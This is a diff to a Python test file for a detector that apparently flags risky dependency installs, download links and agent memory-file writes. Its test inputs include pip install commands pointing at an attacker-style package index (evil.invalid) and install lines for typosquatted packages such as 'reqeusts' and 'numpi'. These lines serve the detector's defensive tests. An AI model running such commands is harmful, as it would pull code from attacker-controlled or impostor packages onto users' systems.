@@ -240,6 +240,7 @@ def test_dependency_gates_keep_every_finding(monkeypatch: pytest.MonkeyPatch) ->
         "pip install --index-url https://evil.invalid/simple x",
         "pip install x --EXTRA-INDEX-URL=https://evil.invalid/simple",
         "nothing to install here",
+        "# Setup\n\n    PIP INSTALL reqeusts\r\nthen npm i expresss\nuv pip install numpi\n",
         *EXAMPLE_TEXTS,
     ]
     gated = [dependencies.dependency_findings("README.md", t) for t in texts]
@@ -473,6 +474,16 @@ def test_url_gates_keep_every_link_line_and_agent_file_write(
     writes = [fd.agent_memory_write(p, t) for p, t in cases]
     # every link line holds a URL: a text without '://' has no match at all
     assert all(not fd._LINK_LINE.search(t) for _, t in cases if "://" not in t)
+    edges = [
+        "Installer: https://x.io/setup.exe",
+        "a\r\n- **Driver**: [get \u2028it](https://x.io/d.msi)\r\nTool: http://y.io/t ://\n",
+        "x://y\nHelper - https://a.io/b https://c.io/d\n\nRuntime: <https://r.io/r.pkg>.\n",
+        "\n\nTool:https://z.io/z.zip",
+    ]
+    for text in [t for _, t in cases] + edges:
+        spans = [m.span() for m in fd._LINK_LINE.finditer(text)]
+        assert [m.span() for m in fd._link_lines(text)] == spans, text
+    assert sum(bool(list(fd._link_lines(t))) for t in edges) >= 3
     monkeypatch.setattr(fd, "_AGENT_FILE_NAMES", ("",))  # the name gate always open
     assert writes == [fd.agent_memory_write(p, t) for p, t in cases]
     assert sum(map(bool, links)) >= 2 and sum(map(bool, writes)) >= 2
